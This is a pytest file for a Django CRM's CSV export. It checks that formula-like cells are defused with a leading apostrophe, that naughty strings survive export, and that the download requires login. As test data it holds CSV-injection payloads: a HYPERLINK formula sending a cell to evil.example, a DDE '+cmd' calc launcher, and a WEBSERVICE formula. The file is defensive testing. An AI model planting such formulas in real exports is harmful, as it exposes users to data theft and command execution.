"""CSV export: every table on disk, the filtered deal list as a download, formulas defused."""

import csv
import io
import json
from datetime import datetime
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.core.management import CommandError, call_command

from handraise.contacts.models import ContactEmail, ContactPhone
from handraise.enquiries.models import Enquiry
from handraise.insights.models import Signal
from handraise.marketing.models import Touchpoint
from handraise.sales.models import Activity
from handraise.testing.factories import make_contact, make_deal

pytestmark = pytest.mark.django_db

# As a contact's name holds them: no NUL (PostgreSQL text cannot), at most 200 characters.
BLNS = [
    text.replace("\x00", "\ufffd")[:200]
    for text in json.loads(
        (Path(__file__).resolve().parents[3] / "tests" / "data" / "blns.json").read_text("utf-8")
    )
]
FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
RECEIVED = datetime(2026, 7, 1, 9, 30, tzinfo=ZoneInfo("UTC"))  # 10:30 in London (BST)


def read(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


@pytest.fixture
def ann():
    contact = make_contact(FORMULA, organisation="@SUM(1+1)")
    ContactEmail.objects.create(contact=contact, email="ann@lee.example", is_primary=True)
    ContactPhone.objects.create(contact=contact, number="+442079460123", is_primary=True)
    return contact


@pytest.mark.integration
def test_export_writes_every_table_with_formulas_defused(ann, tmp_path):
    deal = make_deal("-2+3 review", contact=ann, value="1250.50")
    Enquiry.objects.create(
        channel=Enquiry.Channel.FORM,
        contact=ann,
        received_at=RECEIVED,
        message="+cmd|' /C calc'!A0",
        from_name=FORMULA,
    )
    Activity.objects.create(
        kind=Activity.Kind.CALL, contact=ann, deal=deal, subject="Called", occurred_at=RECEIVED
    )
    Signal.objects.create(kind="objection", text="=1+1", contact=ann, captured_at=RECEIVED)
    Touchpoint.objects.create(visitor_id="v1", contact=ann, url="/pricing", occurred_at=RECEIVED)
    out = io.StringIO()

    call_command("export", str(tmp_path / "out"), stdout=out)

    folder = tmp_path / "out"
    assert sorted(p.name for p in folder.iterdir()) == [
        "activities.csv",
        "assets.csv",
        "cadences.csv",
        "contacts.csv",
        "deals.csv",
        "enquiries.csv",
        "forms.csv",
        "organisations.csv",
        "quick-tags.csv",
        "reply-templates.csv",
        "settings.json",
        "signals.csv",
        "stages.csv",
        "themes.csv",
        "touchpoints.csv",
    ]
    assert "deals.csv: 1 rows" in out.getvalue()
    [contact] = read(folder / "contacts.csv")
    assert contact["name"] == "'" + FORMULA  # shown as text, never run
    assert contact["organisation"] == "'@SUM(1+1)"
    assert contact["email"] == "ann@lee.example"
    assert contact["phones"] == "'+442079460123"  # defused: it starts with a plus
    [enquiry] = read(folder / "enquiries.csv")
    assert enquiry["message"].startswith("'+cmd")
    assert enquiry["received"] == "2026-07-01T10:30:00+01:00"  # the business's zone
    [deal_row] = read(folder / "deals.csv")
    assert deal_row["title"] == "'-2+3 review"
    assert deal_row["value"] == "1250.50" and deal_row["stage"] == "Conversation"
    assert deal_row["contact email"] == "ann@lee.example"
    assert read(folder / "signals.csv")[0]["text"] == "'=1+1"
    assert read(folder / "activities.csv")[0]["subject"] == "Called"
    assert read(folder / "touchpoints.csv")[0]["url"] == "/pricing"


@pytest.mark.integration
def test_every_naughty_string_survives_the_export(tmp_path):
    for text in BLNS:
        make_contact(text)

    call_command("export", str(tmp_path), stdout=io.StringIO())

    names = [row["name"] for row in read(tmp_path / "contacts.csv")]
    assert len(names) == len(BLNS)
    for given, written in zip(BLNS, names, strict=True):
        # Only a leading apostrophe is ever added, and only in front of a formula.
        assert written == given or (written == "'" + given.replace("|", "\\|"))
        if written != given:
            assert given[:1] in "=+-@|%"


@pytest.mark.integration
def test_export_to_a_place_it_cannot_write_says_so(tmp_path):
    blocker = tmp_path / "a-file"
    blocker.write_text("not a folder")
    with pytest.raises(CommandError, match="Cannot write to"):
        call_command("export", str(blocker / "out"), stdout=io.StringIO())


@pytest.mark.integration
def test_the_deal_list_downloads_as_filtered_with_formulas_defused(
    teammate_client, django_assert_max_num_queries
):
    make_deal("Month-end review", contact=make_contact("Ann Lee"))
    make_deal("=WEBSERVICE(1) audit", contact=make_contact("Bob Smith"))
    make_deal("Something else", contact=make_contact("Cy Twombly"))

    page = teammate_client.get("/pipeline/list/?q=review")
    assert "Download it as CSV" in page.content.decode()
    with django_assert_max_num_queries(8):
        response = teammate_client.get("/pipeline/list/deals.csv?q=review")
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith('attachment; filename="deals-')
    body = b"".join(response.streaming_content).decode()
    rows = list(csv.DictReader(io.StringIO(body, newline="")))
    assert [row["title"] for row in rows] == ["Month-end review"]

    everything = teammate_client.get("/pipeline/list/deals.csv")
    body = everything.getvalue().decode()
    titles = {row["title"] for row in csv.DictReader(io.StringIO(body, newline=""))}
    assert titles == {"Month-end review", "'=WEBSERVICE(1) audit", "Something else"}


@pytest.mark.integration
def test_the_download_needs_a_signed_in_user(client):
    response = client.get("/pipeline/list/deals.csv")
    assert response.status_code == 302 and "/login/" in response["Location"]
